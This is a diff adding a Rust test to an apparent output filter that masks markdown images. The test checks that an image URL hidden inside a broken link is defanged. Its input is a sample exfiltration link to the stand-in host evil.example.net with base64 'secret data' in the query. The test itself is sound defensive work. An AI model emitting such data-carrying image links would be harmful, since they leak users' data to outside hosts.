@@ -321,6 +321,22 @@ fn urls_that_carry_data_are_told_from_others() {
 }
 
 #[test]
+fn an_image_within_a_broken_one_is_judged_by_itself() {
+    let watch = watch(&[("markup.image", Treatment::Mask)]);
+    let inner = "![x](https://evil.example.net/p.png?d=c2VjcmV0IGRhdGEgZm9yIHlvdQ==)";
+    let (text, count) = whole(
+        &watch,
+        Kind::Prose,
+        &format!("![x](https://evil.exam{inner}"),
+    );
+    let wanted = format!(
+        "![x](https://evil.exam{}",
+        inner.replace("https:", "hxxps:")
+    );
+    assert_eq!((text, count), (wanted, 1));
+}
+
+#[test]
 fn ordinary_text_beside_markup_never_waits() {
     let watch = watch(&[("markup.image", Treatment::Mask)]);
     let mut text = Text::new(Kind::Prose, &watch);
